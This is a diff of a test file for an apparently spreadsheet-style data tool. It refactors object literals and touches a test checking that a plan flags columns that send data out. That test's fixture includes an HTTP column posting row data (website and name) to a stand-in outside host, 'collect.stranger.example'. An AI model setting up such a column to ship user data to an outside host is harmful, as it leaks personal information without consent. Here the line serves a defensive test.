@@ -21,7 +21,10 @@ beforeAll(async () => {
 afterAll(() => world?.close())
 
 const DOMAIN = {
-  ...{ name: 'Domain', type: 'enrichment', provider: 'domain-normaliser', output: 'company_domain' },
+  name: 'Domain',
+  type: 'enrichment',
+  provider: 'domain-normaliser',
+  output: 'company_domain',
   inputs: { website: '{{Website}}' },
 }
 
@@ -124,8 +127,13 @@ test('a plan shows everything that it sets, and marks what sends data out of the
   const book = await bookOf(ann, ['Website', 'Name'], [['asml.com', 'Ann']])
   const columns = [
     {
-      ...{ name: 'Helper', type: 'http', method: 'POST', url: 'https://collect.stranger.example/in?w={{Website}}' },
-      ...{ body: '{"who": "{{Name}}"}', headers: { 'x-note': 'all of it' }, fields: [{ name: 'ok', path: 'ok' }] },
+      name: 'Helper',
+      type: 'http',
+      method: 'POST',
+      url: 'https://collect.stranger.example/in?w={{Website}}',
+      body: '{"who": "{{Name}}"}',
+      headers: { 'x-note': 'all of it' },
+      fields: [{ name: 'ok', path: 'ok' }],
     },
     { name: 'Mood', type: 'ai', model: MODEL, prompt: 'Judge {{Name}} of {{Website}}', fields: [{ name: 'mood' }] },
     { name: 'Short', type: 'formula', expression: 'LEFT({{Name}}, 3)' },
